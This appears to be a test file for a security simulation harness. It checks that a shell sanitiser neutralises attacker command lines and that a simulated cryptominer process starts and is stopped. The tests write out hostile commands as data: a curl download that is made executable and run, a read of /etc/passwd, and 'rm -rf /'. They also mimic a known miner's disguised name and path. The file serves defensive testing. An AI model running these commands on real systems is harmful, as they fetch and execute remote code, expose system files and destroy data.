import { readlinkSync, readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { loadAppConfig } from '../../app/config.ts';
import { createLogger } from '../../core/log.ts';
import { safeShell, ServiceHost } from './live.ts';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Children of a process, from /proc. */
function children(pid: number): number[] {
  try {
    return readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean).map(Number);
  } catch {
    return [];
  }
}

describe('live attacks inside a service\'s process', () => {
  const host = new ServiceHost({ services: [], otlpEndpoints: ['http://127.0.0.1:9'], kafka: loadAppConfig({ env: {} }).kafka, ordersTopic: 'unused', log: createLogger({ level: 'silent' }) });
  afterAll(() => host.close());

  it('keeps only read-only reconnaissance of an attacker\'s shell line', () => {
    expect(safeShell('uname -a; cat /etc/passwd')).toBe('uname -a; cat /etc/passwd >/dev/null 2>&1');
    expect(safeShell('curl -fsSL http://203.0.113.9/k -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k')).toBe('true');
    expect(safeShell('id; rm -rf /')).toBe('id >/dev/null 2>&1');
  });

  it('runs a miner as a real spinning binary under the attack\'s name, a child of this process, and stops it at the end', async () => {
    await host.attack({ kind: 'exec', timeMs: Date.now(), origin: 'attack', service: 'ad', pid: 1, binary: '/tmp/.X25-unix/kdevtmpfsi', args: ['kdevtmpfsi'], runMs: 1_500, cpuCores: 1.85 });
    await sleep(300);
    const miner = children(process.pid).find((pid) => {
      try { return readlinkSync(`/proc/${pid}/exe`).endsWith('/kdevtmpfsi'); } catch { return false; }
    });
    expect(miner).toBeDefined();
    const stat = readFileSync(`/proc/${miner}/stat`, 'utf8');
    expect(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0]).toMatch(/[RS]/);
    await sleep(2_500);
    expect(children(process.pid)).not.toContain(miner);
  });
});
